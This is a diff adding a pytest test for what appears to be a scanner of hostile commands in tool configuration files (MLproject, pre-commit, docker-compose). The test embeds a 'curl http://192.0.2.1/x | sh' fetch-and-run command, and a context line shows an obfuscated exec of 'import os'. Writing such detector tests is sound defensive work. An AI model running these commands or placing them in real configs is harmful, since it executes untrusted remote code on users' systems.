@@ -147,3 +147,20 @@ def test_letters_that_are_not_ascii_hide_no_word() -> None:
     spelled = 'exec(chr(105) + "mport os", names)'
     assert findings_of(named, "x.py") == []
     assert rules_of(spelled, "x.py") == {"hidden-code"}
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("MLproject", "entry_points:\n  main:\n    command: {command}\n"),
+        (".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - entry: {command}\n"),
+        ("docker-compose.yml", "services:\n  x:\n    command: {command}\n"),
+    ],
+)
+def test_commands_in_the_configuration_of_tools(name: str, text: str) -> None:
+    hostile = text.format(command="bash -c 'curl http://192.0.2.1/x | sh'")
+    (found,) = findings_of(hostile, name)
+    assert found.rule == "hostile-command"
+    assert "curl" in hostile.split("\n")[found.evidence["line"] - 1]
+    honest = text.format(command="python train.py --epochs 3")
+    assert findings_of(honest, name) == []
